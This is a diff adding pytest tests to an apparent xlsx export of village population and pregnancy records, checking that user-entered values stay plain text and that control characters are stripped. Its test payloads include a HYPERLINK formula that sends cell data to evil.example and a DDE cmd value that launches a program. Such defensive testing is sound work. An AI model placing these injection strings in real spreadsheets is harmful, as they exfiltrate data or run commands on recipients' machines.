@@ -119,3 +119,30 @@ def test_the_stub_document_writes():
     book = _book(tiny, "en")
     assert book.sheetnames == ["Report", "A Population", "Amendments", "Late records"]
     assert book["A Population"]["B2"].value == 0
+
+
+@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?"&A1,"点击")',
+                                     "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "#N/A"])
+def test_phone_text_is_text_never_a_formula(payload):
+    doc = document("village")
+    doc["lists"][0]["rows"][0]["values"]["woman"] = payload
+    doc["lists"][0]["rows"][0]["values"]["approval_no"] = payload
+    doc["amendments"][0]["instance_id"] = payload
+    book = _book(doc, "en")
+    formulas = [(s.title, c.coordinate) for s in book for row in s.iter_rows() for c in row
+                if c.data_type in ("f", "e")]
+    assert formulas == []
+    ended = book["Pregnancies ended"]
+    assert ended["B2"].value == payload and ended["B2"].data_type == "s"
+    assert ended["B2"].quotePrefix and ended["G2"].value == payload
+    assert book["Amendments"]["G2"].value == payload
+
+
+def test_characters_xlsx_cannot_hold_are_removed():
+    doc = document("village")
+    doc["lists"][0]["rows"][0]["values"]["woman"] = "李\x01秀\x1f英\x00"
+    doc["village"] = {"code": "dongwan", "zh": "东湾\x0b村", "en": "Dong\x07wan"}
+    doc["lists"][0]["zh"] = doc["lists"][0]["en"] = "Pregnancies\x02 ended"
+    book = _book(doc, "en")
+    assert book["Pregnancies ended"]["B2"].value == "李秀英"
+    assert "Dongwan" in [c for r in _rows(book["Report"]) for c in r]
